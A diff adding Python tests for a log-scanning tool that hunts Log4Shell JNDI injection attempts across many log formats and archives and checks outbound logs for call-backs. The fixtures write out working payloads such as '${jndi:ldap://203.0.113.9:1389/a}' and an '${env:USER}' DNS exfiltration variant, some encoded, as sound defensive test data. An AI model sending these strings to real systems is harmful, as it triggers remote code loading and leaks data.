@@ -1,0 +1,541 @@
+"""hikeshi hunt: logs made here in every format and packing, and the labelled texts where they exist."""
+import base64, bz2, csv, gzip, io, json, lzma, os, random, re, resource, shutil, signal, subprocess, sys
+import tarfile, tempfile, threading, time, unittest, urllib.parse, zipfile
+
+BUILD = os.environ.get("HIKESHI_BUILD", "build")
+TOOL = os.path.join(BUILD, "hikeshi")
+HERE = os.path.dirname(os.path.abspath(__file__))
+SAMPLES = os.path.join(HERE, "../../../shared/data/lookups")
+MEMORY = 64 * 1024  # KiB
+PAYLOAD = "${jndi:ldap://203.0.113.9:1389/a}"
+with open(TOOL, "rb") as tool:
+    SANITIZED = b"__asan_init" in tool.read()
+
+
+def read_text(path):
+    with open(path, encoding="utf-8", newline="") as f:
+        return f.read()
+
+
+def env_of(extra=None):
+    e = {k: v for k, v in os.environ.items() if k not in ("COLUMNS", "NO_COLOR", "LANG", "LC_ALL", "TZ")}
+    e.update({"LANG": "C.UTF-8", "TZ": "Asia/Tokyo"})
+    e.update(extra or {})
+    return e
+
+
+def run(*args, env=None, **how):
+    return subprocess.run([TOOL, "hunt", *args], capture_output=True, timeout=120, env=env_of(env), **how)
+
+
+def hunt(*args, **how):
+    r = run("--format", "jsonl", *args, **how)
+    rows = [json.loads(x) for x in r.stdout.splitlines()]
+    return r.returncode, rows[:-1], rows[-1]["summary"] if rows else None
+
+
+def access(payload="", client="198.51.100.23", at="13/Dec/2021:22:40:03 +0900", path="/index.html", ref="-"):
+    return '%s - - [%s] "GET %s HTTP/1.1" 200 512 "%s" "Mozilla/5.0 %s"\n' % (client, at, path, ref, payload)
+
+
+class Case(unittest.TestCase):
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+        self.dir = self.tmp.name
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def put(self, name, data):
+        path = os.path.join(self.dir, name)
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "wb") as f:
+            f.write(data if isinstance(data, bytes) else data.encode())
+        return path
+
+    def one(self, text, **want):
+        """The one sighting in this line, which must say what is wanted."""
+        code, rows, summary = hunt(self.put("x.log", text))
+        self.assertEqual((code, len(rows)), (0, 1), (rows, summary))
+        for key, value in want.items():
+            self.assertEqual(rows[0][key], value, rows[0])
+        return rows[0]
+
+
+class Verdicts(Case):
+    def test_what_is_told(self):
+        row = self.one(access(PAYLOAD), verdict="reaches", resolves_to="ldap://203.0.113.9:1389/a",
+                       client="198.51.100.23", field="User-Agent", time="2021-12-13T13:40:03.000Z", line=1,
+                       format="combined", decoded=[])
+        self.assertEqual(row["callback"], {"scheme": "ldap", "host": "203.0.113.9", "port": 1389, "path": "/a"})
+        self.assertIn(PAYLOAD, row["text"])
+
+    def test_chain_and_field(self):
+        q = urllib.parse.quote(urllib.parse.quote(PAYLOAD, safe=""), safe="")
+        self.one(access(path="/s?a=1&q=" + q), decoded=["url", "url"], field="query q", verdict="reaches")
+        b = base64.b64encode(PAYLOAD.encode()).decode()
+        self.one(access(ref="https://h/?t=" + b), decoded=["base64"], field="Referer")
+        self.one(access(path="/" + PAYLOAD), field="path")
+
+    def test_field_of_the_worse_of_two(self):
+        self.one(access(PAYLOAD, path="/?tpl=${name}"), field="User-Agent", verdict="reaches")
+
+    def test_cut_and_inert(self):
+        self.one(access()[:-3] + " ${jndi:dns://x1.probe.example", verdict="if-closed")
+        self.one("a ${ jndi:ldap://203.0.113.9/a} b\n", verdict="attempt", reason="inert", resolves_to=None)
+
+    def test_least(self):
+        path = self.put("x", "${ jndi:ldap://h/a}\n${jndi:ldap://h/a\n" + PAYLOAD + "\n")
+        self.assertEqual(run("-c", path).stdout, b"3\n")
+        self.assertEqual(run("-c", "--least", "if-closed", path).stdout, b"2\n")
+        self.assertEqual(run("-c", "--least", "reaches", path).stdout, b"1\n")
+
+    def test_exit_codes(self):
+        clean = self.put("clean.log", access() * 10)
+        self.assertEqual(run(clean).returncode, 1)
+        self.assertEqual(run(self.put("bad.log", PAYLOAD)).returncode, 0)
+        for args in (["--format", "xml", clean], ["--since", "yesterdy", clean], ["--jobs", "0", clean],
+                     ["--ioc", "evil.example", clean], ["--nonsense", clean],
+                     [os.path.join(self.dir, "not there")]):
+            r = run(*args)
+            self.assertEqual(r.returncode, 2, args)
+        cut = self.put("cut.gz", gzip.compress(access().encode() * 1000)[:-20])
+        self.assertEqual(run(cut).returncode, 2)
+
+    def test_since_and_until(self):
+        path = self.put("x", "".join(access(PAYLOAD, at="%02d/Dec/2021:12:00:00 +0900" % d) for d in range(10, 20)))
+        for args, n in ((["--since", "2021-12-15"], 5), (["--until", "2021-12-15"], 5),
+                        (["--since", "2021-12-15T12:00"], 5), (["--since", "2021-12-15T12:00:01+09:00"], 4),
+                        (["--since", "2021-12-12", "--until", "2021-12-13T00:00:00Z"], 1), (["--since", "1d"], 0)):
+            r = run("-c", *args, path)
+            self.assertEqual(r.stdout, b"%d\n" % n, args)
+
+    def test_sums(self):
+        text = "".join(access("${jndi:ldap://h%d.example/a}" % (i % 3), client="192.0.2.%d" % (i % 2)) for i in range(9))
+        _, rows, s = hunt(self.put("x", text))
+        self.assertEqual(s["clients"], {"192.0.2.0": 5, "192.0.2.1": 4})
+        self.assertEqual(s["callbacks"], {"h0.example": 3, "h1.example": 3, "h2.example": 3})
+        self.assertEqual(s["days"], {"2021-12-13": 9})
+        self.assertEqual(s["verdicts"]["reaches"], 9)
+        self.assertEqual((s["from"], s["to"]), ("2021-12-13T13:40:03.000Z",) * 2)
+
+
+FORMATS = [  # line, format, time (UTC) or None, client or None, field
+    (access(PAYLOAD), "combined", "2021-12-13T13:40:03.000Z", "198.51.100.23", "User-Agent"),
+    ("www.h.example:443 198.51.100.23 - u [13/Dec/2021:22:40:03 +0900] \"GET /?a=" + PAYLOAD + " HTTP/1.1\" 200 5 \"-\" \"c\"",
+     "combined", "2021-12-13T13:40:03.000Z", "198.51.100.23", "query a"),
+    ("2021/12/13 22:40:03 [error] 7#7: *1 open() \"/x\" failed, client: 192.0.2.8, server: s, request: \"GET /" + PAYLOAD +
+     " HTTP/1.1\", host: \"h\"", "error", "2021-12-13T13:40:03.000Z", "192.0.2.8", "request"),
+    ("[Mon Dec 13 22:40:03.123456 2021] [core:error] [pid 7:tid 9] [client 192.0.2.8:5123] AH1: " + PAYLOAD,
+     "error", "2021-12-13T13:40:03.123Z", "192.0.2.8", "message"),
+    (json.dumps({"@timestamp": "2021-12-13T13:40:03.5Z", "source": {"ip": "192.0.2.8"}, "user_agent": {"original": PAYLOAD}}),
+     "json", "2021-12-13T13:40:03.500Z", "192.0.2.8", "original"),
+    (json.dumps({"ts": 1639402803.25, "remote_addr": "192.0.2.8", "request": PAYLOAD}), "json",
+     "2021-12-13T13:40:03.250Z", "192.0.2.8", "request"),
+    ("<34>1 2021-12-13T13:40:03.1Z host app 7 ID [x@1 a=\"b]\"] " + PAYLOAD, "syslog", "2021-12-13T13:40:03.100Z", None, "message"),
+    ("<34>Dec 13 22:40:03 host app[7]: " + PAYLOAD, "syslog", "2021-12-13T13:40:03.000Z", None, "message"),
+    ("Dec 13 22:40:04 host nginx: " + access(PAYLOAD).strip(), "syslog", "2021-12-13T13:40:03.000Z", "198.51.100.23", "User-Agent"),
+    ("#Software: x\n#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query cs(User-Agent)\n"
+     "2021-12-13 13:40:03 192.0.2.8 GET /a q=" + PAYLOAD + " Mozilla/5.0", "w3c", "2021-12-13T13:40:03.000Z", "192.0.2.8",
+     "cs-uri-query"),
+    ("2021-12-13\t13:40:03\tNRT1\t5\t192.0.2.8\tGET\td.example\t/\t200\t-\t" + PAYLOAD + "\t-\t-", "w3c",
+     "2021-12-13T13:40:03.000Z", "192.0.2.8", "cs(User-Agent)"),
+    ("2021-12-13 22:40:03,123 [http-1] ERROR c.e.App [ip=192.0.2.8] - bad " + PAYLOAD, "java",
+     "2021-12-13T13:40:03.123Z", "192.0.2.8", "message"),
+    ("22:40:03.123 [main] INFO  c.e.App - " + PAYLOAD, "java", None, None, "message"),
+    ("h2 2021-12-13T13:40:03.1Z app/b/1 192.0.2.8:2817 10.0.0.1:80 0.0 0.0 0.0 200 200 34 366 \"GET https://h:443/?q=" + PAYLOAD +
+     " HTTP/2.0\" \"curl\" - - arn", "alb", "2021-12-13T13:40:03.100Z", "192.0.2.8", "query q"),
+    ("Dec 13 22:40:03 lb haproxy[7]: 192.0.2.8:33317 [13/Dec/2021:22:40:03.655] in static/s 1/0/3/6/10 200 2 - - ---- "
+     "1/1/1/1/0 0/0 {" + PAYLOAD + "} \"GET / HTTP/1.1\"", "haproxy", "2021-12-13T13:40:03.655Z", "192.0.2.8", "captured headers"),
+    ("whatever this is: " + PAYLOAD, None, None, None, None),
+]
+
+
+class Formats(Case):
+    def test_formats(self):
+        for line, fmt, when, client, field in FORMATS:
+            path = self.put("x.log", line + "\n")
+            os.utime(path, (1639500000, 1639500000))
+            _, rows, _ = hunt(path)
+            self.assertEqual(len(rows), 1, line)
+            got = rows[0]
+            self.assertEqual((got["format"], got["time"], got["client"], got["field"]), (fmt, when, client, field), line)
+
+    def test_a_year_is_the_one_before_the_file_was_written(self):
+        path = self.put("x.log", "Dec 31 23:00:00 h a: " + PAYLOAD + "\nJan  1 01:00:00 h a: " + PAYLOAD + "\n")
+        os.utime(path, (1640966400 + 7200, 1640966400 + 7200))  # 2022-01-01 02:00 JST
+        _, rows, _ = hunt(path)
+        self.assertEqual([r["time"][:4] for r in rows], ["2021", "2021"])
+        self.assertEqual(rows[1]["time"], "2021-12-31T16:00:00.000Z")
+
+    def test_any_bytes_and_any_cut(self):
+        line = FORMATS[4][0].encode()
+        for cut in range(len(line)):
+            self.put("d/%d.log" % cut, line[:cut])
+        bad = self.put("d/bad.log", b"\xff\xfe\x00 " + access(PAYLOAD).encode() + b"\x80\x81\n" + PAYLOAD.encode())
+        code, rows, s = hunt(os.path.join(self.dir, "d"))
+        self.assertEqual([r["line"] for r in rows if r["file"] == bad], [1, 3])
+        self.assertEqual(s["incomplete_count"], 0)
+        self.assertEqual(s["files"], len(line) + 1)
+
+
+class Packing(Case):
+    TEXT = (access() * 700 + access(PAYLOAD) + access() * 700).encode()
+
+    def zst(self, data):
+        return subprocess.run(["zstd", "-q", "-c"], input=data, capture_output=True, check=True).stdout
+
+    def tar(self, files, mode="w"):
+        out = io.BytesIO()
+        with tarfile.open(fileobj=out, mode=mode, format=tarfile.PAX_FORMAT) as t:
+            for name, data in files:
+                info = tarfile.TarInfo(name)
+                info.size = len(data)
+                t.addfile(info, io.BytesIO(data))
+        return out.getvalue()
+
+    def zip(self, files, how=zipfile.ZIP_DEFLATED):
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w", how) as z:
+            for name, data in files:
+                z.writestr(name, data)
+        return out.getvalue()
+
+    def packed(self):
+        t = self.TEXT
+        long = "deep/" * 40 + "a.log"
+        yield "a.gz", gzip.compress(t), ""
+        yield "two.gz", gzip.compress(t[:30000]) + gzip.compress(t[30000:]), ""
+        yield "a.bz2", bz2.compress(t), ""
+        yield "a.xz", lzma.compress(t), ""
+        yield "a.zst", self.zst(t), ""
+        yield "a.tar", self.tar([("x/a.log", t)]), "!/x/a.log"
+        yield "long.tar", self.tar([(long, t)]), "!/" + long
+        yield "a.tgz", self.tar([("b.log", b""), ("a.log.xz", lzma.compress(t))], "w:gz"), "!/a.log.xz"
+        yield "a.zip", self.zip([("a.log", t)]), "!/a.log"
+        yield "s.zip", self.zip([("a.log.gz", gzip.compress(t))], zipfile.ZIP_STORED), "!/a.log.gz"
+        yield "t.zip", self.zip([("a.tar", self.tar([("q", t)]))]), "!/a.tar!/q"
+
+    def test_every_packing(self):
+        for name, data, inner in self.packed():
+            path = self.put(name.replace(".", "-"), data)  # by content, not by name
+            code, rows, s = hunt(path)
+            self.assertEqual([(r["file"], r["line"]) for r in rows], [(path + inner, 701)], name)
+            self.assertEqual((s["lines"], s["incomplete_count"]), (1401, 0), name)
+            if not name.endswith("zip"):
+                with open(path, "rb") as f:
+                    code, rows, s = hunt("-", stdin=f)
+                self.assertEqual([(r["file"], r["line"]) for r in rows], [("-" + inner, 701)], name)
+
+    def test_cut_is_told_and_what_is_there_is_searched(self):
+        noise = random.Random(5).randbytes(60000).hex().encode()
+        text = access(PAYLOAD).encode() + noise
+        for name, data in (("gz", gzip.compress(text)), ("bz2", bz2.compress(text, 1)), ("xz", lzma.compress(text)),
+                           ("zst", self.zst(text)), ("tar", self.tar([("a", text)])), ("zip", self.zip([("a", text)])),
+                           ("tgz", self.tar([("a", text)], "w:gz"))):
+            for n in (len(data) // 2, len(data) - 1) if name != "tar" else (len(data) // 2,):
+                code, rows, s = hunt(self.put("cut", data[:n]))
+                self.assertEqual(s["incomplete_count"], 1, (name, n, s))
+                if name not in ("bz2", "zip", "xz", "zst"):
+                    self.assertEqual(len(rows), 1, (name, n))
+
+    def test_damage(self):
+        data = bytearray(self.zip([("a.log", self.TEXT), ("b.log", self.TEXT)], zipfile.ZIP_STORED))
+        data[2000] ^= 1
+        code, rows, s = hunt(self.put("x.zip", bytes(data)))
+        self.assertEqual((len(rows), s["incomplete_count"]), (2, 1))
+        self.assertIn("checksum", s["incomplete"][0]["reason"])
+
+    def test_a_zip_bomb_of_layers(self):
+        data = PAYLOAD.encode()
+        for _ in range(20):
+            data = gzip.compress(data)
+        code, rows, s = hunt(self.put("deep.gz", data))
+        self.assertEqual((code, s["incomplete_count"]), (2, 1))
+
+
+class Size(Case):
+    def limited(self, path, *args, stdin=None):
+        """Runs it below a small process, for a child is charged with what its parent held."""
+        code = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:]); "
+                "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)")
+        r = subprocess.run([sys.executable, "-S", "-c", code, TOOL, "hunt", "--format", "jsonl", *args, path],
+                           capture_output=True, env=env_of(), stdin=stdin, timeout=120)
+        if not SANITIZED:
+            self.assertLess(int(r.stderr.split()[-1]), MEMORY)
+        rows = [json.loads(x) for x in r.stdout.splitlines()]
+        return rows[:-1], rows[-1]["summary"]
+
+    def test_a_line_of_100_mb(self):
+        middle = b"x" * (50 << 20)
+        text = b"first\n" + middle + access(PAYLOAD).encode().strip() + middle + PAYLOAD.encode() + b"\n" + PAYLOAD.encode() + b"\n"
+        path = self.put("x", text)
+        for _ in ("file", "pipe"):
+            if _ == "file":
+                rows, s = self.limited(path)
+            else:
+                with open(path, "rb") as f:
+                    cat = subprocess.Popen(["cat"], stdin=f, stdout=subprocess.PIPE)
+                    rows, s = self.limited("-", stdin=cat.stdout)
+                    cat.stdout.close()
+                    cat.wait()
+            self.assertEqual([r["line"] for r in rows], [2, 3], _)
+            self.assertEqual(s["lines"], 3)
+
+    def test_parts_of_a_big_file(self):
+        """Split at 32 MiB: every line counted once, wherever it lies, and in order."""
+        rng = random.Random(1)
+        lines, want, size = [], [], 0
+        while size < 140 << 20:
+            hit = rng.random() < 0.0005
+            n = rng.randrange(20, 2000) if rng.random() < 0.9999 else rng.randrange(1 << 20)
+            line = b"y" * n + (PAYLOAD.encode() if hit else b"")
+            lines.append(line)
+            if hit:
+                want.append(len(lines))
+            size += len(line) + 1
+        path = self.put("big", b"\n".join(lines) + b"\n")
+        for jobs in ("1", "2", "7"):
+            rows, s = self.limited(path, "--jobs", jobs)
+            self.assertEqual([r["line"] for r in rows], want, jobs)
+            self.assertEqual(s["lines"], len(lines), jobs)
+            self.assertEqual(s["bytes"], size, jobs)
+
+    def test_every_line_a_sighting(self):
+        path = self.put("x", access(PAYLOAD) * 400000)
+        rows, s = self.limited(path, "--jobs", "4")
+        self.assertEqual([r["line"] for r in rows], list(range(1, 400001)))
+
+    def test_many_files_in_order(self):
+        for i in range(300):
+            self.put("logs/%03d.log" % i, access() * (2000 if i % 50 == 0 else 1) + access(PAYLOAD))
+        rows, s = self.limited(os.path.join(self.dir, "logs"), "--jobs", "3")
+        self.assertEqual([os.path.basename(r["file"]) for r in rows], ["%03d.log" % i for i in range(300)])
+
+    def test_hostile_lines_are_not_slow(self):
+        for unit in (b"\\u00", b"%25", b"${", b"&amp;", b"JHtJ", b"%5cu0025"):
+            path = self.put("x", unit * ((8 << 20) // len(unit)))
+            t0 = time.monotonic()
+            self.limited(path)
+            self.assertLess(time.monotonic() - t0, 20 if SANITIZED else 4, unit)
+
+    def test_truncated_while_it_is_read(self):
+        path = self.put("x", access().encode() * 2000000)
+        for _ in range(3):
+            p = subprocess.Popen([TOOL, "hunt", "-c", path], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env_of())
+            time.sleep(0.01)
+            os.truncate(path, 1000)
+            p.communicate()
+            self.assertIn(p.returncode, (1, 2))  # read before, or became shorter; never killed by SIGBUS
+            with open(path, "ab") as f:
+                f.write(access().encode() * 2000000)
+
+
+class Follow(Case):
+    def wait_for(self, p, n):
+        lines = []
+        deadline = time.monotonic() + 20
+        while len(lines) < n and time.monotonic() < deadline:
+            line = p.stdout.readline()
+            if line:
+                lines.append(json.loads(line))
+        return lines
+
+    def test_rotation_and_truncation(self):
+        path = self.put("x.log", access("${jndi:ldap://one.example/a}"))
+        p = subprocess.Popen([TOOL, "hunt", "--follow", "--format", "jsonl", "--no-summary", path], stdout=subprocess.PIPE,
+                             env=env_of())
+        self.addCleanup(p.stdout.close)
+        try:
+            self.assertEqual(self.wait_for(p, 1)[0]["callback"]["host"], "one.example")
+            with open(path, "a") as f:
+                f.write(access() + access("${jndi:ldap://two.example/a}"))
+            self.assertEqual(self.wait_for(p, 1)[0]["line"], 3)
+            with open(path, "a") as f:
+                f.write(access("${jndi:ldap://three.example/a}")[:-1])  # unfinished when it is rotated
+            os.rename(path, path + ".1")
+            self.put("x.log", access("${jndi:ldap://four.example/a}"))
+            got = self.wait_for(p, 2)
+            self.assertEqual([(r["callback"]["host"], r["line"]) for r in got], [("three.example", 4), ("four.example", 1)])
+            os.truncate(path, 0)
+            time.sleep(1.2)
+            with open(path, "a") as f:
+                f.write(access() + access("${jndi:ldap://five.example/a}"))
+            self.assertEqual([(r["callback"]["host"], r["line"]) for r in self.wait_for(p, 1)], [("five.example", 2)])
+        finally:
+            p.send_signal(signal.SIGTERM)
+            self.assertEqual(p.wait(20), 0)
+
+
+OUTBOUND = {
+    "squid": "1639402806.120     40 10.20.3.11 TCP_TUNNEL/200 39 CONNECT 203.0.113.9:1389 - HIER_DIRECT/203.0.113.9 -\n",
+    "packet": "Dec 13 22:40:06 fw kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n",
+    "zeek": "#separator \\x09\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state\n"
+            "1639402806.1\tC1\t10.20.3.11\t5\t203.0.113.9\t1389\ttcp\tSF\n",
+    "csv": "時刻,送信元,宛先,宛先ポート,動作\n2021-12-13 22:40:06,10.20.3.11,203.0.113.9,1389,許可\n",
+    "csv2": '"Receive Time";"Source Address";"Destination Address";"Destination Port";"Action"\n'
+            '"2021/12/13 22:40:06";"10.20.3.11";"203.0.113.9";"1389";"allow"\n',
+}
+
+
+class Outbound(Case):
+    def sight(self, payload, log, *args, name="out.log"):
+        path = self.put("a.log", access(payload))
+        out = self.put(name, log)
+        os.utime(out, (1639500000, 1639500000))
+        code, rows, s = hunt("--outbound", out, *args, path)
+        self.assertEqual((code, len(rows)), (0, 1))
+        return rows[0], s
+
+    def test_formats(self):
+        for name, log in OUTBOUND.items():
+            row, s = self.sight(PAYLOAD, log)
+            self.assertEqual(row["verdict"], "called-back", name)
+            self.assertIn("10.20.3.11", row["answer"], name)
+            self.assertEqual(s["callbacks_answered"], 1)
+
+    def test_names(self):
+        logs = ("Dec 13 22:40:06 ns dnsmasq[7]: query[A] x1.probe.example from 10.20.3.11\n",
+                "13-Dec-2021 22:40:06.120 client @0x7f 10.20.3.11#5353 (x1.probe.example): query: x1.probe.example IN A + (10.0.0.1)\n",
+                "[1639402806] unbound[7:0] info: 10.20.3.11 x1.probe.example. A IN\n",
+                "#fields\tts\tid.orig_h\tid.resp_h\tquery\tanswers\n1639402806.1\t10.20.3.11\t10.0.0.1\tX1.probe.example\t-\n")
+        for log in logs:
+            row, _ = self.sight("${jndi:dns://x1.probe.example}", log)
+            self.assertEqual(row["verdict"], "called-back", log)
+            row, _ = self.sight("${jndi:ldap://${env:USER}.x1.probe.example/a}", log.replace("x1.probe", "root.x1.probe").replace("X1.", "bob.x1."))
+            self.assertEqual(row["verdict"], "called-back", log)
+            row, _ = self.sight("${jndi:dns://other.example}", log)
+            self.assertEqual(row["verdict"], "reaches", log)
+
+    def test_blocked_earlier_and_elsewhere(self):
+        row, _ = self.sight(PAYLOAD, OUTBOUND["packet"].replace("ACCEPT", "DROP"))
+        self.assertEqual(row["verdict"], "reaches")
+        self.assertTrue(row["answer"].startswith("tried and blocked"))
+        row, _ = self.sight(PAYLOAD, OUTBOUND["packet"].replace("22:40:06", "12:40:06"))
+        self.assertEqual(row["verdict"], "reaches")  # ten hours before the attempt
+        row, _ = self.sight(PAYLOAD, OUTBOUND["packet"].replace("DST=203.0.113.9", "DST=203.0.113.90"))
+        self.assertEqual(row["verdict"], "reaches")
+
+    def test_a_name_and_its_address(self):
+        dns = "Dec 13 22:40:05 ns dnsmasq[7]: reply evil.example is 203.0.113.9\n"
+        path = self.put("a.log", access("${jndi:ldap://evil.example/a}"))
+        fw, ns = self.put("fw.log.gz", gzip.compress(OUTBOUND["packet"].encode())), self.put("ns.log", dns)
+        for p in (fw, ns):
+            os.utime(p, (1639500000, 1639500000))
+        _, rows, _ = hunt("--outbound", fw, "--outbound", ns, path)
+        self.assertEqual(rows[0]["verdict"], "called-back")
+        self.assertIn("fw.log.gz:1", rows[0]["answer"])
+
+    def test_called_back_first_for_people(self):
+        out = self.put("out.log", OUTBOUND["squid"])
+        path = self.put("a.log", access("${jndi:ldap://h.example/a}") + access(PAYLOAD))
+        r = run("--outbound", out, path)
+        self.assertTrue(r.stdout.decode().startswith("CALLED BACK"), r.stdout)
+        self.assertIn("1 of 2 call-backs were answered", r.stdout.decode())
+
+    def test_not_an_outbound_log(self):
+        r = run("--outbound", self.put("wifi.csv", "name,signal\nx,3\n"), self.put("a.log", access(PAYLOAD)))
+        self.assertEqual(r.returncode, 2)
+        self.assertIn("no column for an address", r.stderr.decode())
+
+    def test_indicators_out(self):
+        path = self.put("a.log", access(PAYLOAD) + access("${jndi:dns://x.probe.example}") + access("${jndi:ldap://${env:U}.q.example/a}"))
+        out = os.path.join(self.dir, "ioc.csv")
+        self.assertEqual(run("--ioc-out", out, path).returncode, 0)
+        rows = list(csv.DictReader(io.StringIO(read_text(out), newline="")))
+        self.assertEqual({(r["type"], r["value"], r["role"]) for r in rows},
+                         {("ipv4", "203.0.113.9", "call-back host"), ("domain", "x.probe.example", "call-back host"),
+                          ("ipv4", "198.51.100.23", "attacking client")})
+        out = os.path.join(self.dir, "ioc.json")
+        self.assertEqual(run("--ioc-out", out, path).returncode, 0)
+        bundle = json.loads(read_text(out))
+        self.assertEqual(bundle["type"], "bundle")
+        for o in bundle["objects"]:
+            self.assertEqual((o["type"], o["spec_version"], o["pattern_type"]), ("indicator", "2.1", "stix"))
+            self.assertRegex(o["id"], r"^indicator--[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
+        self.assertIn("[ipv4-addr:value = '203.0.113.9']", [o["pattern"] for o in bundle["objects"]])
+
+
+class Table(Case):
+    def test_widths(self):
+        path = self.put("a.log", access(PAYLOAD) + "x ${jndi:dns://${env:A}.h.example\n")
+        narrow = run(path, env={"COLUMNS": "80"}).stdout.decode()
+        self.assertTrue(narrow.startswith("REACHES      2021-12-13 22:40:03 +09:00  198.51.100.23\n  %s:1   User-Agent\n"
+                                          "  ldap://203.0.113.9:1389/a\n" % path), narrow)
+        self.assertIn("1 reaches   1 if-closed", narrow)
+        self.assertIn("not searched; whether an attempt succeeded is not known", narrow)
+        wide = run(path, env={"COLUMNS": "120"}).stdout.decode()
+        self.assertTrue(wide.startswith("VERDICT      TIME"), wide)
+        self.assertNotIn("\x1b", narrow + wide)
+        self.assertIn("\x1b[1;31mREACHES\x1b[0m", run("--colour", "always", path).stdout.decode())
+        self.assertIn("到達", run(path, env={"LANG": "ja_JP.UTF-8"}).stdout.decode())
+
+    def test_terminal_is_not_moved(self):
+        path = self.put("a\x1b[2J.log", "\x1b]0;x\x07 ${jndi:ldap://h/\x1b[31m‮}\n")
+        for fmt in ("table", "csv", "jsonl"):
+            out = run("--format", fmt, path).stdout
+            self.assertNotIn(b"\x1b", out, fmt)
+
+    def test_nothing(self):
+        out = run(self.put("a.log", access() * 3)).stdout.decode()
+        self.assertEqual(out, "NOTHING FOUND in 3 lines of 1 files, 2021-12-13 22:40 to 2021-12-13 22:40\n")
+        cut = run(self.put("a.gz", gzip.compress(access().encode() * 90)[:-9])).stdout.decode()
+        self.assertNotIn("NOTHING FOUND", cut)
+        self.assertIn("NOT FULLY EXAMINED", cut)
+
+    def test_csv(self):
+        out = run("--format", "csv", self.put("a.log", access(PAYLOAD) + access("=cmd ${jndi:ldap://h/=1}"))).stdout.decode()
+        rows = list(csv.DictReader(io.StringIO(out)))
+        self.assertEqual((rows[0]["verdict"], rows[0]["host"], rows[0]["port"]), ("reaches", "203.0.113.9", "1389"))
+        self.assertEqual(len(rows), 2)
+
+
+class Elsewhere(Case):
+    """The stdin form under other engines."""
+
+    @unittest.skipUnless(shutil.which("parallel"), "GNU parallel is not installed")
+    def test_gnu_parallel(self):
+        text = "".join(access(PAYLOAD if i % 1000 == 7 else "") for i in range(60000))
+        r = subprocess.run(["parallel", "--pipe", "--block", "1M", "-j2", os.path.abspath(TOOL), "hunt", "--format", "jsonl",
+                            "--no-summary", "-"], input=text.encode(), capture_output=True, env=env_of(), timeout=100)
+        self.assertEqual(len(r.stdout.splitlines()), 60)
+
+    @unittest.skipUnless(shutil.which("xargs"), "no xargs")
+    def test_xargs(self):
+        for i in range(20):
+            self.put("l/%d.log" % i, access(PAYLOAD))
+        names = "\0".join(os.path.join(self.dir, "l", n) for n in os.listdir(os.path.join(self.dir, "l")))
+        r = subprocess.run(["xargs", "-0", "-n5", "-P2", TOOL, "hunt", "-c"], input=names.encode(), capture_output=True,
+                           env=env_of())
+        self.assertEqual(len(r.stdout.splitlines()), 20)
+
+
+@unittest.skipUnless(os.path.isdir(SAMPLES), "no labelled texts on this machine")
+class Labelled(Case):
+    def test_collected(self):
+        want = {"A": ("reaches",), "T": ("if-closed", "reaches")}
+        missed = []
+        for line in read_text(os.path.join(SAMPLES, "collected.tsv")).splitlines(keepends=True):
+            kind, _, _, _, text = line.rstrip("\n").split("\t", 4)
+            if kind not in want:
+                continue
+            _, rows, _ = hunt("-", input=(access(text)).encode())
+            _, alone, _ = hunt("-", input=text.encode())
+            if not any(r["verdict"] in want[kind] for r in rows + alone):
+                missed.append(line)
+        self.assertEqual(missed, [])
+
+    def test_encoded(self):
+        for name in sorted(os.listdir(os.path.join(SAMPLES, "encoded"))):
+            path = os.path.join(SAMPLES, "encoded", name)
+            _, rows, s = hunt("--least", "reaches", path)
+            self.assertEqual(len(rows), s["lines"], name)
+
+    def test_harmless(self):
+        for name in ("benign-tricky.log", "not_jndi.txt"):
+            _, rows, _ = hunt("--least", "reaches", os.path.join(SAMPLES, name))
+            self.assertEqual(rows, [], name)
+
+
+if __name__ == "__main__":
+    unittest.main()
